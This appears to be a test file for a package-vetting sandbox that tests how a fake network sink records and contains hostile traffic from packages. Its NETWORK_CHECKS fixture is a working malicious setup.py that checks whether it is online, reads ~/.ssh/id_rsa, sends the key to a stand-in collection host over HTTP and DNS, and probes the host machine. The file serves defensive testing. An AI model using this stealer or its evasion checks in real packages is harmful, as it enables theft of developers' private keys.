"""The sandbox's network that goes nowhere (pkgvet.sandbox.netsink): an `eth0` whose far end
is the probe. First the sink's packet handling on hand-built packets, then real containers
under gVisor and runc: a package that checks for a network before it steals now finds one and
is caught, DNS exfiltration is recorded with its name, and nothing reaches the host (a
listener on the host's own addresses, which the package targets, receives nothing)."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import struct
from collections.abc import Iterator
from typing import Any

import pytest

import sandbox_fixtures as fx
from builders import BENIGN_SETUP, make_sdist
from pkgvet.model import Verdict
from pkgvet.sandbox import SandboxSettings, engine, netsink
from pkgvet.sandbox.runner import Outcome, run
from pkgvet.sources.local import local_artifact

IMAGE = os.environ.get("PKGVET_SANDBOX_IMAGE", engine.IMAGE)
CLIENT = socket.inet_aton(netsink.ADDRESS)


# --- the sink on hand-built packets ------------------------------------------------------------


def _tcp_in(dst: str, dport: int, seq: int, flags: int, payload: bytes = b"",
            ack: int = 0) -> bytes:
    return netsink.tcp(CLIENT, socket.inet_aton(dst), 40000, dport, seq, ack, flags, payload)


def _parse_tcp(packet: bytes) -> tuple[int, int, int, bytes]:
    """(seq, ack, flags, payload) of a packet the sink sent, checksums verified."""
    assert netsink.checksum(packet[:20]) == 0
    segment = packet[20:]
    pseudo = struct.pack("!4s4sBBH", packet[12:16], packet[16:20], 0, 6, len(segment))
    assert netsink.checksum(pseudo + segment) == 0
    seq, ack, off_flags = struct.unpack("!IIH", segment[4:14])
    return seq, ack, off_flags & 0x3F, segment[(off_flags >> 12) * 4 :]


def test_the_sink_completes_a_handshake_and_records_the_first_bytes() -> None:
    events: list[tuple[str, dict[str, Any]]] = []
    sink = netsink.Sink(-1, lambda kind, **f: events.append((kind, f)),
                        netsink.Names(lambda *a, **k: None))
    (syn_ack,) = sink.handle(_tcp_in("93.184.216.34", 4444, 1000, netsink.SYN))
    ours, ack, flags, _ = _parse_tcp(syn_ack)
    assert flags == netsink.SYN | netsink.ACK and ack == 1001
    (acked,) = sink.handle(_tcp_in("93.184.216.34", 4444, 1001, netsink.ACK | netsink.PSH,
                                   b"secret-bytes", ours + 1))
    assert _parse_tcp(acked)[1] == 1001 + len(b"secret-bytes")
    replies = sink.handle(_tcp_in("93.184.216.34", 4444, 1013, netsink.FIN | netsink.ACK,
                                  ack=ours + 1))
    assert any(_parse_tcp(r)[2] & netsink.FIN for r in replies)
    assert events == [("sink", {"proto": "tcp", "address": "93.184.216.34", "port": 4444,
                                "data": "secret-bytes"})]


def test_an_http_request_gets_an_answer_and_its_host_is_recorded() -> None:
    events: list[tuple[str, dict[str, Any]]] = []
    sink = netsink.Sink(-1, lambda kind, **f: events.append((kind, f)),
                        netsink.Names(lambda *a, **k: None))
    ours = _parse_tcp(sink.handle(_tcp_in("104.18.0.2", 80, 5, netsink.SYN))[0])[0]
    request = b"GET /p?k=1 HTTP/1.1\r\nHost: c2.pkgvet-test.invalid\r\n\r\n"
    replies = sink.handle(_tcp_in("104.18.0.2", 80, 6, netsink.ACK | netsink.PSH, request,
                                  ours + 1))
    answers = [_parse_tcp(r)[3] for r in replies]
    assert any(a.startswith(b"HTTP/1.1 200") for a in answers)
    assert events[0][1]["data"].startswith("GET /p?k=1") and events[0][1]["port"] == 80


def test_dns_questions_to_any_server_get_one_sink_address_per_name() -> None:
    recorded: list[dict[str, Any]] = []
    names = netsink.Names(lambda kind, **f: recorded.append({"type": kind, **f}))
    sink = netsink.Sink(-1, lambda *a, **k: None, names)
    labels = b"".join(bytes([len(p)]) + p for p in (b"6162", b"exfil", b"example"))
    query = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0\0\x01\0\x01"
    (reply,) = sink.handle(netsink.udp(CLIENT, socket.inet_aton("8.8.8.8"), 5353, 53, query))
    assert reply[12:16] == socket.inet_aton("8.8.8.8") and reply[16:20] == CLIENT
    answer = reply[28:]
    assert answer[:2] == query[:2] and answer[-4:] == socket.inet_aton("104.18.0.2")
    assert recorded == [{"type": "dns", "name": "6162.exfil.example", "answer": "104.18.0.2",
                         "resolver": "8.8.8.8"}]
    sink.handle(netsink.udp(CLIENT, socket.inet_aton("192.168.1.1"), 5353, 53, query))
    assert len(recorded) == 1  # the same name, the same answer, recorded once


# --- real containers ---------------------------------------------------------------------------

NETWORK_CHECKS = '''\
import ipaddress, os, socket


def _online():
    """What malware asks before it acts: an interface besides lo, a resolver that answers
    with a public address, a connect to a public address that succeeds."""
    try:
        if not [n for _, n in socket.if_nameindex() if n != "lo"]:
            return False
        if not [n for n in os.listdir("/sys/class/net") if n != "lo"]:
            return False
        with open("/proc/net/route") as fh:
            if not any(line.split()[1] == "00000000" for line in fh.read().splitlines()[1:]):
                return False
        address = ipaddress.ip_address(socket.gethostbyname("pypi.org"))
        if address.is_private or address.is_loopback:
            return False
        with socket.create_connection(("93.184.216.34", 80), timeout=3):
            pass
        return True
    except OSError:
        return False


if _online():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as fh:
        key = fh.read()
    with socket.create_connection(("collect.pkgvet-test.invalid", 80), timeout=3) as conn:
        conn.sendall(("POST /k HTTP/1.1\\r\\nHost: collect.pkgvet-test.invalid\\r\\n"
                      "Content-Length: %d\\r\\n\\r\\n%s" % (len(key), key)).encode())
        conn.recv(100)
    chunk = key.splitlines()[1][:20].encode().hex()
    try:
        socket.gethostbyname(chunk + ".dns.pkgvet-test.invalid")  # data in the name
    except OSError:
        pass
    for host in HOST_ADDRESSES:  # the host's own addresses: must reach nothing but the sink
        try:
            with socket.create_connection((host, HOST_PORT), timeout=3) as conn:
                conn.sendall(b"reached-the-host")
        except OSError:
            pass
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendto(b"reached-the-host", (host, HOST_PORT))
        udp.close()
'''


def _host_addresses() -> list[str]:
    """The host's addresses a container could hope to reach: the docker0 bridge's gateway
    and the address of the host's default route."""
    found = []
    with contextlib.suppress(OSError):
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.connect(("192.0.2.1", 9))  # no packet is sent: only the route is looked up
        found.append(probe.getsockname()[0])
        probe.close()
    with contextlib.suppress(OSError):
        import fcntl

        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        raw = fcntl.ioctl(probe.fileno(), 0x8915, struct.pack("256s", b"docker0"))  # SIOCGIFADDR
        found.append(socket.inet_ntoa(raw[20:24]))
        probe.close()
    return [a for a in dict.fromkeys(found) if not a.startswith("127.")]


@pytest.fixture(scope="module")
def host_listener() -> Iterator[tuple[socket.socket, socket.socket, int]]:
    """A TCP and a UDP listener on every host address, on one port."""
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind(("0.0.0.0", 0))
    tcp.listen(8)
    tcp.setblocking(False)
    port = tcp.getsockname()[1]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("0.0.0.0", port))
    udp.setblocking(False)
    yield tcp, udp, port
    tcp.close()
    udp.close()


def _ready(runtime: str) -> None:
    fx.require_sandbox(SandboxSettings(image=IMAGE, runtime=runtime), runtime)


RUNS: dict[str, tuple[Outcome, list[str]]] = {}


def _checked_run(tmp_path_factory: pytest.TempPathFactory, runtime: str,
                 port: int) -> tuple[Outcome, list[str]]:
    """One run per runtime of the network-checking stealer, shared by the tests below."""
    if runtime not in RUNS:
        _ready(runtime)
        tmp = tmp_path_factory.mktemp(f"net-{runtime}")
        hosts = _host_addresses()
        setup = (f"HOST_ADDRESSES = {json.dumps(hosts)}\nHOST_PORT = {port}\n" + NETWORK_CHECKS
                 + "\n" + BENIGN_SETUP.format(name="netcheck", version="1.0"))
        path = make_sdist(tmp, "netcheck", "1.0", {"setup.py": setup,
                                                   "netcheck/__init__.py": ""})
        house = tmp / "wheelhouse"
        house.mkdir()
        settings = SandboxSettings(image=IMAGE, wheelhouse=house, install_seconds=60.0,
                                   import_seconds=20.0, runtime=runtime)
        RUNS[runtime] = (run(local_artifact(path), settings), hosts)
    return RUNS[runtime]


RUNTIMES = [pytest.param("runsc", id="gvisor"), pytest.param("runc", id="runc")]


@pytest.mark.sandbox
@pytest.mark.parametrize("runtime", RUNTIMES)
def test_a_package_that_checks_for_a_network_finds_one_and_is_caught(
        tmp_path_factory: pytest.TempPathFactory, host_listener: Any, runtime: str) -> None:
    outcome, _ = _checked_run(tmp_path_factory, runtime, host_listener[2])
    rules = {f.rule_id for f in outcome.findings}
    sent = [r for r in outcome.records if r.get("type") == "sink" and r.get("port") == 80
            and str(r.get("data", "")).startswith("POST /k")]
    assert sent, [r for r in outcome.records if r.get("type") in ("sink", "dns", "probe_note")]
    assert "Host: collect.pkgvet-test.invalid" in sent[0]["data"]
    assert {"PV801", "PV803", "PV806"} <= rules, sorted(rules)
    assert outcome.report.verdict is Verdict.MALICIOUS


@pytest.mark.sandbox
@pytest.mark.parametrize("runtime", RUNTIMES)
def test_dns_exfiltration_is_recorded_with_its_name(
        tmp_path_factory: pytest.TempPathFactory, host_listener: Any, runtime: str) -> None:
    outcome, _ = _checked_run(tmp_path_factory, runtime, host_listener[2])
    names = [str(r["name"]) for r in outcome.records if r.get("type") == "dns"]
    carried = [n for n in names if n.endswith(".dns.pkgvet-test.invalid")]
    assert carried, names
    assert any(f.rule_id == "PV803" and "DNS name" in f.snippet and carried[0] in f.snippet
               for f in outcome.findings), [(f.rule_id, f.snippet) for f in outcome.findings]


@pytest.mark.sandbox
@pytest.mark.parametrize("runtime", RUNTIMES)
def test_nothing_reaches_the_host(tmp_path_factory: pytest.TempPathFactory,
                                  host_listener: Any, runtime: str) -> None:
    """The package sent to the host's own addresses, on a port the host listens on: the sink
    recorded each attempt, and the host's listeners received nothing."""
    tcp, udp, port = host_listener
    outcome, hosts = _checked_run(tmp_path_factory, runtime, port)
    assert hosts, "no host address to aim at"
    caught = {(r.get("proto"), r.get("address")) for r in outcome.records
              if r.get("type") == "sink" and r.get("port") == port
              and r.get("data") == "reached-the-host"}
    assert {(p, h) for p in ("tcp", "udp") for h in hosts} <= caught, caught
    with pytest.raises(BlockingIOError):
        tcp.accept()
    with pytest.raises(BlockingIOError):
        udp.recvfrom(100)
